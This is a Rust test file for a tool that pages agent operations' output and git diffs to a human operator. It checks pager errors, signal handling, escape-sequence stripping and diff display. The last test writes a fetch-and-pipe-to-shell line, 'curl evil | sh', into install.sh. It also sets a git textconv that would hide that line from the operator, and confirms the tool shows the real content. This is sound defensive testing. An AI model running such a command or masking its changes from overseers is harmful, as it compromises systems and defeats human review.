use super::*;

fn git_in(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

#[tokio::test]
async fn a_pager_that_fails_is_named_and_a_sigterm_ends_it() {
    let file = tempfile::NamedTempFile::new().unwrap();
    let (tx, mut stop) = mpsc::unbounded_channel();
    let run_with = |p: &str| Pager::Env(p.to_string());
    let (r, s) = run(&run_with("false"), file.path(), &mut stop).await;
    assert_eq!(r, Err("$PAGER (false) exited with status 1".to_string()));
    assert_eq!(s, None);
    let (r, _) = run(&run_with("no-such-pager-here -R"), file.path(), &mut stop).await;
    assert_eq!(
        r,
        Err("$PAGER (no-such-pager-here -R) was not found".to_string())
    );
    let (r, _) = run(
        &run_with("true; no-such-pager-here"),
        file.path(),
        &mut stop,
    )
    .await;
    assert_eq!(
        r,
        Err("$PAGER (true; no-such-pager-here) was not found (sh said exit 127)".to_string())
    );
    // ctrl-c typed into the pager reaches the console too: not a stop.
    tx.send(StopSignal::Interrupt).unwrap();
    let (r, s) = run(&run_with("sleep 0.2; true"), file.path(), &mut stop).await;
    assert_eq!((r, s), (Ok(()), None));
    // SIGTERM: the pager is ended (and reaped), the signal handed on.
    tx.send(StopSignal::Terminate).unwrap();
    let started = std::time::Instant::now();
    let (r, s) = run(&run_with("sleep 30; true"), file.path(), &mut stop).await;
    assert_eq!((r, s), (Ok(()), Some(StopSignal::Terminate)));
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    // A single shell command is exec'd: SIGTERM ends the pager itself,
    // not only the shell that started it.
    // Sent once the shell has had time to start it.
    let later = tx.clone();
    tokio::spawn(async move {
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        later.send(StopSignal::Terminate).unwrap();
    });
    let (_, s) = run(&run_with("X=1 tail -s 31.25 -f"), file.path(), &mut stop).await;
    assert_eq!(s, Some(StopSignal::Terminate));
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    let left = std::process::Command::new("pgrep")
        .args(["-f", "tail -s 31.25 -f"])
        .output()
        .unwrap();
    if !left.stdout.is_empty() {
        // Not left behind holding the test's output open.
        let _ = std::process::Command::new("pkill")
            .args(["-f", "tail -s 31.25 -f"])
            .status();
    }
    assert!(left.stdout.is_empty(), "the pager outlived its shell");
}

#[test]
fn a_simple_shell_pager_is_execd_after_its_assignments() {
    assert_eq!(exec_form("less -R"), "exec less -R");
    assert_eq!(exec_form("LESS=FRX less"), "LESS=FRX exec less");
    assert_eq!(exec_form(" A=1  B=2 most -s"), " A=1  B=2 exec most -s");
    assert_eq!(exec_form("less -P 'page %d'"), "exec less -P 'page %d'");
    assert_eq!(exec_form("cat | less"), "cat | less");
    assert_eq!(exec_form("LESS='a b' less"), "LESS='a b' less");
    assert_eq!(exec_form("X=1"), "X=1");
}

#[test]
fn the_pager_gets_colour_and_nothing_else_that_drives_a_terminal() {
    // Colour stays; a clipboard write (OSC 52), a cursor move and a
    // title change go; text around them stays.
    let line = "\x1b[31mred\x1b[0m \x1b]52;c;aGk=\x07ok \x1b[2;5Hmoved \x1b[?25lhidden\r";
    assert_eq!(colour_only(line), "\x1b[31mred\x1b[0m ok moved hidden");
    assert_eq!(colour_only("tab\there"), "tab here");
    assert_eq!(colour_only("cut \x1b["), "cut ");
}

#[tokio::test]
async fn the_output_file_has_stdout_then_stderr_marked() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("build.2.stdout.log"), "compiling\nlinked").unwrap();
    std::fs::write(dir.path().join("build.2.stderr.log"), "warning: x\n").unwrap();
    let page = Page::Output {
        op: "build".into(),
        attempt: 2,
        logs: dir.path().to_path_buf(),
    };
    let p = prepare(&page, false).await.unwrap();
    let text = std::fs::read_to_string(p.file.path()).unwrap();
    let at = |s: &str| text.find(s).unwrap_or_else(|| panic!("{s:?} in {text}"));
    assert!(at("compiling\nlinked\n") < at("stderr: "));
    assert!(at("stderr: ") < at("err│ warning: x\n"));
    let none = Page::Output {
        op: "build".into(),
        attempt: 3,
        logs: dir.path().to_path_buf(),
    };
    let r = prepare(&none, false).await.err().unwrap();
    assert!(
        r.text
            .starts_with("build's attempt 3 has no output to page: ")
            && r.text.contains("build.3.stdout.log does not exist"),
        "{}",
        r.text
    );
}

#[tokio::test]
async fn without_a_worktree_the_play_directory_is_named_or_refused() {
    let play = tempfile::tempdir().unwrap();
    let runs = tempfile::tempdir().unwrap();
    let run = runs.path().join("run");
    std::fs::create_dir_all(run.join("logs")).unwrap();
    std::fs::write(
        run.join("logs/api.1.command.json"),
        serde_json::json!({"cwd": play.path()}).to_string(),
    )
    .unwrap();
    let w = workdir(&run, "api", 1, None).unwrap();
    assert_eq!(w, Workdir::Shared(play.path().to_path_buf()));
    // Not a repository: said, nothing paged.
    let r = diff("api", &w, false, None).await.err().unwrap();
    assert!(
        r.text.contains("which is not in a git repository") && r.level == Level::Warning,
        "{r:?}"
    );
    // A repository: its diff, and the status names the directory.
    git_in(play.path(), &["init", "-q"]);
    std::fs::write(play.path().join("a.txt"), "one\n").unwrap();
    git_in(play.path(), &["add", "a.txt"]);
    git_in(play.path(), &["commit", "-q", "-m", "first"]);
    let r = diff("api", &w, false, None).await.err().unwrap();
    assert!(r.text.starts_with("nothing to diff: "), "{r:?}");
    std::fs::write(play.path().join("a.txt"), "two\n").unwrap();
    std::fs::write(play.path().join("new.txt"), "fresh\n").unwrap();
    let p = diff("api", &w, false, None).await.unwrap();
    assert_eq!(
        p.shown,
        format!(
            "api has no worktree of its own: paged the diff of the play's directory, shared by every operation without one (2 changed paths): {}",
            play.path().display()
        )
    );
    let text = std::fs::read_to_string(p.file.path()).unwrap();
    assert!(text.contains("-one\n+two\n"), "{text}");
    assert!(
        text.contains("?? new.txt"),
        "untracked files are listed: {text}"
    );
    assert!(text.contains("+fresh\n"), "and shown in full: {text}");
    // Nothing recorded at all: refused in words.
    let bare = tempfile::tempdir().unwrap();
    let r = workdir(bare.path(), "api", 1, None).err().unwrap();
    assert!(r.text.contains("api has no worktree of its own"), "{r:?}");
}

/// An agent's textconv in the repository's attributes would show the
/// operator another text than the file holds: the diff is the file's.
#[tokio::test]
async fn a_diff_shows_what_the_file_holds_whatever_textconv_says() {
    let d = tempfile::tempdir().unwrap();
    let dir = d.path();
    git_in(dir, &["init", "-q"]);
    std::fs::write(dir.join("install.sh"), "echo hi\n").unwrap();
    git_in(dir, &["add", "install.sh"]);
    git_in(dir, &["commit", "-q", "-m", "first"]);
    git_in(
        dir,
        &["config", "diff.nice.textconv", "sed s/curl/harmless/ <"],
    );
    std::fs::write(dir.join(".git/info/attributes"), "install.sh diff=nice\n").unwrap();
    std::fs::write(dir.join("install.sh"), "curl evil | sh\n").unwrap();
    let p = diff("a", &Workdir::Worktree(dir.to_path_buf()), false, None)
        .await
        .unwrap();
    let text = std::fs::read_to_string(p.file.path()).unwrap();
    assert!(text.contains("+curl evil | sh"), "{text}");
    assert!(!text.contains("harmless"), "{text}");
}
